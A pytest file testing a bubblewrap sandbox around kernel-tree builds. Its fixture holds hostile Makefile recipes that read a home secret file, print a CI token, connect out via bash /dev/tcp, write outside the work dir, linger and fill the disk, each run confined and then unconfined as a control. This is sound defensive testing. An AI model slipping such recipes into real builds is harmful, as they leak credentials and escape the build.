"""The sandbox around the tree's code (core/sandbox.py): its command line as a list, the
runner's refusal when none can be made, and hostile series of our own on the fake kernel
tree (tests/fakelinux), each run sandboxed and, as the control that proves the attack is
real, unconfined with --no-sandbox in a work dir of its own."""
from __future__ import annotations

import json
import os
import random
import shutil
import socket
import subprocess
import threading
from pathlib import Path

import pytest

from arena_patches import cli
from arena_patches.core import runner as runner_mod
from arena_patches.core.errors import InfraError
from arena_patches.core.runner import FakeRunner, Runner
from arena_patches.core.sandbox import Isolation, Sandbox, _tool_dirs, around, bwrap_argv
from arena_patches.demo import mkseries
from arena_patches.demo.mkseries import Edit, PatchSpec, VersionSpec
from arena_patches.kbuild import targets
from arena_patches.kbuild.directory import BuildDir
from arena_patches.kbuild.kconfig import BuildConfig
from arena_patches.tree.repo import open_user_tree, tree_key
from tests import fakelinux, gittree

needs_bwrap = pytest.mark.skipif(shutil.which("bwrap") is None, reason="bwrap absent (Debian bubblewrap)")
SPEC = '[series]\ntitle = "k: hostile"\n[build]\ntargets = ["x86_64"]\nkconfig = ["CONFIG_BPF=y"]\n'
LAST = "\t@touch $(out)/vmlinux\n"


def test_the_bwrap_command_line_is_a_list():
    sb = Sandbox(writable=("/w/wt/build", "/w/builds/x", "/c"), readonly=("/w/wt/build/.git", "/w/repo.git"),
                 links=(("/bin", "usr/bin"),), system=("/usr", "/etc"), masked_files=("/etc/shadow",),
                 masked_dirs=("/etc/ssh",), tmp_size=1024)
    assert bwrap_argv(sb, ["make", "-C", "/w/wt/build"], "/w") == [
        "bwrap", "--unshare-all", "--unshare-user", "--disable-userns", "--die-with-parent", "--new-session",
        "--cap-drop", "ALL", "--hostname", "arena-sandbox",
        "--ro-bind", "/usr", "/usr", "--ro-bind", "/etc", "/etc", "--symlink", "usr/bin", "/bin",
        "--ro-bind", "/dev/null", "/etc/shadow", "--tmpfs", "/etc/ssh",
        "--dev", "/dev", "--proc", "/proc", "--size", "1024", "--tmpfs", "/tmp",
        # shortest first: the worktree's .git stays read-only inside the writable worktree
        "--bind", "/c", "/c", "--ro-bind", "/w/repo.git", "/w/repo.git",
        "--bind", "/w/builds/x", "/w/builds/x", "--bind", "/w/wt/build", "/w/wt/build",
        "--ro-bind", "/w/wt/build/.git", "/w/wt/build/.git",
        "--chdir", "/w", "--", "make", "-C", "/w/wt/build"]


def test_a_worktree_brings_its_git_read_only_and_its_real_name(tmp_path):
    user = gittree.make(tmp_path / "user", {"a": "1\n"})
    repo = tmp_path / "work" / "repo.git"
    gittree.run(tmp_path, "clone", "-q", "--shared", "--bare", str(user), str(repo))
    gittree.run(repo, "worktree", "add", "-q", "--detach", str(tmp_path / "work" / "wt"), "HEAD")
    (tmp_path / "link").symlink_to(tmp_path / "work")
    sb = around([tmp_path / "link" / "wt", tmp_path / "o"], [tmp_path / "absent"])
    wt = str(tmp_path / "work" / "wt")
    assert sb.writable == (str(tmp_path / "link" / "wt"), wt, str(tmp_path / "o"))
    # and PATH's own directories outside the system's (where make finds the compilers)
    assert set(sb.readonly) - set(_tool_dirs()) == {str(tmp_path / "link" / "wt" / ".git"), str(repo.resolve()),
                                                    str((user / ".git" / "objects").resolve())}
    assert "/usr" in sb.system and all(os.path.islink(n) for n, _ in sb.links)


def test_the_tree_code_asks_for_the_sandbox_and_git_does_not(tmp_path, monkeypatch):
    monkeypatch.setenv("CCACHE_DIR", str(tmp_path / "cc"))
    fr = FakeRunner()
    t = targets.all_targets()["x86_64"]
    bd = BuildDir.at(tmp_path, t, None, BuildConfig("tiny", "tinyconfig", ()).for_target(t), 2, runner=fr)
    bd.make(["vmlinux"], 10)
    bd.run(["scripts/checkpatch.pl", "-"], 10, readonly=(tmp_path / "p.patch",))
    _ = bd.toolchain_id  # the compiler asked for its version: the machine's, not the tree's
    make_box, check_box, plain = fr.sandboxes
    assert make_box.writable == (str(bd.source), str(bd.out), str(tmp_path / "cc"))
    assert check_box.writable == make_box.writable and plain is None
    assert fr.calls[0][0][0] == "make"  # the recorded command is the tree's, bwrap around it
    assert bd.command(["vmlinux"]).startswith("bwrap --unshare-all ") and " -- env " in bd.command(["x"])
    off = Runner(sandbox=False)
    assert off.confined(["make"], make_box) == ["make"] and off.isolation is Isolation.NONE
    assert Runner().isolation.value == "bwrap"


def test_no_sandbox_to_be_had_is_refused_naming_the_cause(tmp_path, monkeypatch, capsys):
    monkeypatch.setattr(runner_mod, "_WORKS", {})
    fake_bin = tmp_path / "bin"
    fake_bin.mkdir()
    for tool in ("git", "make"):
        (fake_bin / tool).symlink_to(shutil.which(tool))
    monkeypatch.setenv("PATH", str(fake_bin))
    with pytest.raises(InfraError, match="bwrap not found") as e:
        Runner().require_sandbox()
    assert "--no-sandbox" in e.value.hint and "bubblewrap" in e.value.hint
    # a bwrap the machine does not let make namespaces (a container that forbids them)
    (fake_bin / "bwrap").write_text("#!/bin/sh\necho 'bwrap: No permissions to create new namespace' >&2\nexit 1\n")
    (fake_bin / "bwrap").chmod(0o755)
    with pytest.raises(InfraError, match="cannot make a sandbox.*No permissions to create new namespace"):
        Runner().require_sandbox()
    Runner(sandbox=False).require_sandbox()  # --no-sandbox: nothing to refuse
    tree = fakelinux.tree(tmp_path / "linux", {"kernel/a.c": "int a;\n"})
    spec = tmp_path / "s.toml"
    spec.write_text(SPEC)
    rc = cli.main(["build", "--spec", str(spec), "--tree", str(tree), "--work-dir", str(tmp_path / "w"),
                   "--targets", "x86_64", "--json"])
    err = json.loads(capsys.readouterr().out)["error"]
    assert rc == 3 and err["kind"] == "infrastructure" and "bwrap" in err["message"]
    assert not (tmp_path / "w" / "trees").exists() or not list((tmp_path / "w").rglob("builds/*"))


# --- hostile series, for real -------------------------------------------------------------

def _marked(marker: str) -> list[int]:
    """Pids whose command line holds the marker (a number no other process names)."""
    out = []
    for d in Path("/proc").iterdir():
        if d.name.isdigit():
            try:
                if marker.encode() in (d / "cmdline").read_bytes():
                    out.append(int(d.name))
            except OSError:
                pass
    return out


def _sleeping(marker: str) -> list[int]:
    out = []
    for pid in _marked(marker):
        try:
            if Path(f"/proc/{pid}/cmdline").read_bytes().startswith(b"sleep\0"):
                out.append(pid)
        except OSError:
            pass
    return out


class Listener:
    """A TCP listener on loopback that counts who connects."""

    def __init__(self):
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.arrived = 0
        self.stop = False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self.stop:
            try:
                conn, _ = self.sock.accept()
                self.arrived += 1
                conn.close()
            except OSError:
                pass

    def close(self):
        self.stop = True
        self.thread.join()
        self.sock.close()


def _version(n: int, subject: str, recipe: str) -> VersionSpec:
    return VersionSpec(n, (PatchSpec(subject, "a Makefile edit.", (Edit("Makefile", LAST, recipe + LAST),)),))


@pytest.fixture
def hostile(tmp_path, monkeypatch):
    if shutil.which("bwrap") is None:
        pytest.skip("bwrap absent (Debian bubblewrap)")
    fakelinux.on_path(monkeypatch)
    monkeypatch.setenv("CCACHE_DIR", str(tmp_path / "ccache"))
    home = tmp_path / "home"
    home.mkdir()
    secret = f"s3cret-{random.randrange(10**9)}"
    (home / "secret.txt").write_text(secret + "\n")
    monkeypatch.setenv("HOME", str(home))
    outside = tmp_path / "outside"
    outside.mkdir()
    tree = fakelinux.tree(tmp_path / "linux", {"kernel/a.c": "int a;\n"})
    spec = tmp_path / "hostile.toml"
    spec.write_text(SPEC)
    listener = Listener()
    marker = str(random.randrange(10**8, 10**9))
    versions = [
        _version(1, "k: write outside", f"\t@echo pwned > {outside}/pwned.txt; "
                 "echo pwned > $(CURDIR)/../../repo.git/pwned-by-patch\n"),
        _version(2, "k: read home", '\t@echo "kernel/a.c:1:1: error: home says $$(cat $$HOME/secret.txt 2>&1)" >&2; '
                 "exit 1\n"),
        _version(3, "k: phone home", f"\t@bash -c 'echo hello > /dev/tcp/127.0.0.1/{listener.port}'\n"),
        _version(4, "k: linger", f"\t@(sleep {marker} > /dev/null 2>&1 &)\n"),
        _version(5, "k: read a token", '\t@echo "kernel/a.c:1:1: error: token [$$CI_DEPLOY_TOKEN]" >&2; exit 1\n'),
    ]
    token = f"tok-{random.randrange(10**9)}"
    monkeypatch.setenv("CI_DEPLOY_TOKEN", token)
    mkseries.write(tree, "HEAD", "k: hostile", versions, tmp_path / "mails", tag="hostile")
    yield {"tree": tree, "spec": spec, "mails": tmp_path / "mails", "tmp": tmp_path, "home": home,
           "secret": secret, "outside": outside, "listener": listener, "marker": marker, "token": token}
    listener.close()
    for pid in _marked(marker):  # the control run's lingering process: ours to end
        os.kill(pid, 9)


def _run(h, capsys, work: Path, *extra) -> tuple[int, dict, str]:
    rc = cli.main(["build", "--spec", str(h["spec"]), "--tree", str(h["tree"]), "--source", str(h["mails"]),
                   "--work-dir", str(work), "--targets", "x86_64", "--jobs", "2", "--json", *extra])
    out = capsys.readouterr()
    return rc, json.loads(out.out), out.out + out.err


def _bytes_under(root: Path) -> bytes:
    return b"".join(f.read_bytes() for f in root.rglob("*") if f.is_file() and not f.is_symlink())


def test_a_hostile_series_touches_nothing_but_its_own_work(hostile, capsys):
    h = hostile
    snap = gittree.snapshot(h["tree"])
    work = h["tmp"] / "work"
    rc, doc, said = _run(h, capsys, work)
    cells = {c["version"]: c for c in doc["results"]}
    assert doc["sandbox"] == "bwrap" and rc == 1
    # 1: the write outside is refused; the verdict names the refusal
    assert cells[1]["status"] == "fail" and "Read-only file system" in cells[1]["detail"]
    assert list(h["outside"].iterdir()) == [] and not list(work.rglob("pwned-by-patch"))
    # 2: the home is not there: the secret reaches neither the report, nor the log, nor a file
    assert cells[2]["status"] == "fail" and "No such file or directory" in cells[2]["errors"][0]["message"]
    assert h["secret"] not in said and h["secret"].encode() not in _bytes_under(work)
    # 3: no network: the connection is refused inside, none arrives outside
    assert cells[3]["status"] == "fail" and "Connection refused" in cells[3]["detail"]
    assert h["listener"].arrived == 0
    # 4: the process it left behind died with the build's PID namespace
    assert cells[4]["status"] == "pass" and _marked(h["marker"]) == []
    # 5: the tool's environment stays out: a token in it is not there to be printed
    assert cells[5]["errors"][0]["message"] == "token []" and h["token"] not in said
    assert "bwrap" in cells[1]["reproduce"] and gittree.snapshot(h["tree"]) == snap

    # the control: the same series unconfined does every one of those things
    rc, doc, said = _run(h, capsys, h["tmp"] / "work-unconfined", "--no-sandbox")
    cells = {c["version"]: c for c in doc["results"]}
    assert doc["sandbox"] == "none (--no-sandbox)" and "bwrap" not in cells[1]["reproduce"]
    assert (h["outside"] / "pwned.txt").exists() and cells[1]["status"] == "pass"
    assert h["secret"] in cells[2]["errors"][0]["message"]
    assert h["listener"].arrived == 1 and cells[3]["status"] == "pass"
    assert _marked(h["marker"]) != []
    assert cells[5]["errors"][0]["message"] == f"token [{h['token']}]"


def test_a_build_killed_at_its_timeout_or_by_ctrl_c_leaves_nothing_running(tmp_path):
    if shutil.which("bwrap") is None:
        pytest.skip("bwrap absent (Debian bubblewrap)")
    marker = str(random.randrange(10**8, 10**9))
    box = around([tmp_path])
    script = f"(setsid sleep {marker} > /dev/null 2>&1 &) ; echo go; sleep {marker}1"
    r = Runner().run(["sh", "-c", script], cwd=tmp_path, timeout=1.5, sandbox=box)
    assert r.timed_out and r.argv[0] == "bwrap"
    assert _wait_gone(marker)

    def interrupt(out: str) -> bool:
        raise KeyboardInterrupt
    with pytest.raises(KeyboardInterrupt):
        Runner().run(["sh", "-c", script], cwd=tmp_path, timeout=30, sandbox=box, until=interrupt)
    assert _wait_gone(marker)
    # the control: unconfined, the process that left the process group outlives the kill
    Runner(sandbox=False).run(["sh", "-c", script], cwd=tmp_path, timeout=1.5, sandbox=box)
    left = _marked(marker)
    for pid in left:
        os.kill(pid, 9)
    assert left


def _wait_gone(marker: str, seconds: float = 5.0) -> bool:
    import time
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        if not _marked(marker):
            return True
        time.sleep(0.1)
    return False


def _can_mount() -> bool:
    return os.geteuid() == 0 and shutil.which("mount") is not None


def test_a_patch_that_fills_its_o_dir_fails_and_fills_nothing_else(tmp_path, monkeypatch, capsys):
    """The O= dir is put on a 1 MiB tmpfs (the sandbox does not bound a disk: README). Filling
    it stops the build: the cell is not judged (`error`), and nothing outside O= fills."""
    if shutil.which("bwrap") is None or not _can_mount():
        pytest.skip("needs bwrap and root to mount a small tmpfs")
    fakelinux.on_path(monkeypatch)
    monkeypatch.setenv("CCACHE_DIR", str(tmp_path / "ccache"))
    tree = fakelinux.tree(tmp_path / "linux", {"kernel/a.c": "int a;\n"})
    spec = tmp_path / "s.toml"
    spec.write_text(SPEC)
    fill = _version(1, "k: fill", "\t@dd if=/dev/zero of=$(out)/filler bs=64k count=200 status=none\n")
    mkseries.write(tree, "HEAD", "k: hostile", [fill], tmp_path / "mails", tag="fill")
    work = tmp_path / "work"
    builds = work / "trees" / tree_key(open_user_tree(tree)) / "builds"
    builds.mkdir(parents=True)
    if subprocess.run(["mount", "-t", "tmpfs", "-o", "size=1m", "tmpfs", str(builds)]).returncode != 0:
        pytest.skip("this machine refuses mount")
    try:
        rc = cli.main(["build", "--spec", str(spec), "--tree", str(tree), "--source", str(tmp_path / "mails"),
                       "--work-dir", str(work), "--targets", "x86_64", "--json"])
        doc = json.loads(capsys.readouterr().out)
        (cell,) = doc["results"]
        # a full disk says nothing of the code (the patch's own or the machine's doing, the
        # tool cannot tell): not judged, exit 3, never a pass
        assert rc == 3 and cell["status"] == "error" and "No space left on device" in cell["detail"]
        assert "ran out of the machine's disk or memory" in cell["detail"]
        assert shutil.disk_usage(builds).free < 64 << 10  # full (the tool let go of what it kept there)
        assert shutil.disk_usage(work).free > 10 << 20  # the work dir's own disk is not the O= dir's
        assert list((work / "trees").rglob("build-cache/*"))  # the tool's own state still written
    finally:
        subprocess.run(["umount", "-l", str(builds)])


def test_a_boot_builds_compiles_the_probe_and_runs_qemu_each_in_the_sandbox(tmp_path, monkeypatch):
    """boot_one on a FakeRunner: each step that runs the tree's code (make, the probe's
    compile that includes the tree's nolibc, QEMU running the patch's kernel) asks for a
    sandbox holding what it needs; the result says which."""
    from contextlib import contextmanager
    from types import SimpleNamespace as NS

    from arena_patches.boot import initramfs, stage
    from arena_patches.core.verdicts import BootState
    t = targets.all_targets()["x86_64"]
    if t.qemu is None or shutil.which(t.qemu.binary) is None or shutil.which(t.toolchain().cc) is None:
        pytest.skip("the x86_64 compiler or QEMU is absent")
    monkeypatch.setenv("CCACHE_DIR", str(tmp_path / "cc"))

    def answer(argv, cwd):
        out = Path(next((a[2:] for a in argv if a.startswith("O=")), tmp_path))
        if "tinyconfig" in argv:
            (out / ".config").write_text("CONFIG_BPF=y\n")
        if t.image in argv:
            (out / t.image_path).parent.mkdir(parents=True, exist_ok=True)
            (out / t.image_path).write_bytes(b"kernel")
        if "-o" in argv:
            Path(argv[argv.index("-o") + 1]).write_bytes(b"\x7fELF probe")
        if argv[0].startswith("qemu-"):
            return 0, "ARENA-PROBE arena_map=ok\nARENA-PROBE end\n", ""
        return 0, "", ""
    fr = FakeRunner(answer)

    @contextmanager
    def worktree(name, rev):
        yield tmp_path / "wt" / name
    wr = NS(root=tmp_path, runner=fr, worktree=worktree, git=lambda *a, **kw: fr.run(["git", *a]))
    r = stage.boot_one(wr, t, None, "c" * 40, (), {}, 1, 1, BootState.AFTER, 2)
    assert r.sandbox == "bwrap" and r.reproduce.startswith("bwrap ") and " -- qemu-system-x86_64 " in r.reproduce
    # what runs the tree's code, not a tool asked its version (the machine's, part of cache keys)
    made = [(argv[0], box) for (argv, _), box in zip(fr.calls, fr.sandboxes) if "--version" not in argv]
    assert all(box is not None for tool, box in made if tool in ("make", "gcc") or tool.startswith("qemu-"))
    probe_box = next(box for tool, box in made if tool == "gcc")
    assert str(initramfs.PROBE_SRC) in probe_box.readonly
    qemu_box = next(box for tool, box in made if tool.startswith("qemu-"))
    # the image and the initramfs (and PATH's directories outside the system's)
    assert qemu_box.writable == () and len(set(qemu_box.readonly) - set(_tool_dirs())) == 2
    assert all(p.startswith(str(tmp_path / "builds")) for p in set(qemu_box.readonly) - set(_tool_dirs())), \
        qemu_box.readonly


def test_no_sandbox_is_an_option_of_every_command_that_runs_tree_code():
    from arena_patches.cli import parser
    ap = parser.build_parser()
    typed = {"build": parser.build_options, "verify": parser.build_options, "boot": parser.boot_options,
             "backport": parser.backport_options}
    for argv in (["build", "--tree", "t"], ["verify"], ["boot", "--tree", "t"], ["backport", "--to", "t"]):
        assert typed[argv[0]](ap.parse_args(argv)).sandbox is True
        assert typed[argv[0]](ap.parse_args([*argv, "--no-sandbox"])).sandbox is False
    assert ap.parse_args(["demo", "--no-sandbox"]).no_sandbox and not ap.parse_args(["demo"]).no_sandbox


def test_qemu_runs_in_the_sandbox_without_kvm():
    """QEMU finds its firmware in /usr and runs TCG with no /dev/kvm: SeaBIOS speaks on serial."""
    if shutil.which("bwrap") is None or shutil.which("qemu-system-x86_64") is None:
        pytest.skip("needs bwrap and qemu-system-x86")
    argv = ["qemu-system-x86_64", "-machine", "q35", "-m", "128", "-nographic", "-nodefaults", "-no-reboot",
            "-accel", "tcg", "-serial", "stdio"]
    r = Runner().run(argv, timeout=60, sandbox=around(), until=lambda s: "SeaBIOS" in s, grace=0.2)
    assert r.argv[0] == "bwrap" and "SeaBIOS" in r.stdout and "kvm" not in r.stderr.lower()


def test_the_tool_killed_outright_takes_the_sandbox_with_it(tmp_path):
    """SIGKILL of the tool itself (no cleanup of ours runs): bwrap dies with its parent, and
    the sandbox's processes with bwrap."""
    import sys
    import time
    if shutil.which("bwrap") is None:
        pytest.skip("bwrap absent (Debian bubblewrap)")
    marker = str(random.randrange(10**8, 10**9))
    code = ("import sys; from arena_patches.core.runner import Runner; from arena_patches.core.sandbox import around; "
            f"Runner().run(['sh', '-c', '(setsid sleep {marker} > /dev/null 2>&1 &); sleep {marker}1'], "
            f"sandbox=around([{str(tmp_path)!r}]), timeout=600)")
    tool = subprocess.Popen([sys.executable, "-c", code], env={**os.environ, "PYTHONPATH": str(Path(__file__).parent.parent)})
    end = time.monotonic() + 30
    while len(_sleeping(marker)) < 2 and time.monotonic() < end:
        time.sleep(0.1)
    assert len(_sleeping(marker)) == 2  # both sleeps run, one of them in a session of its own
    tool.kill()
    tool.wait()
    assert _wait_gone(marker)
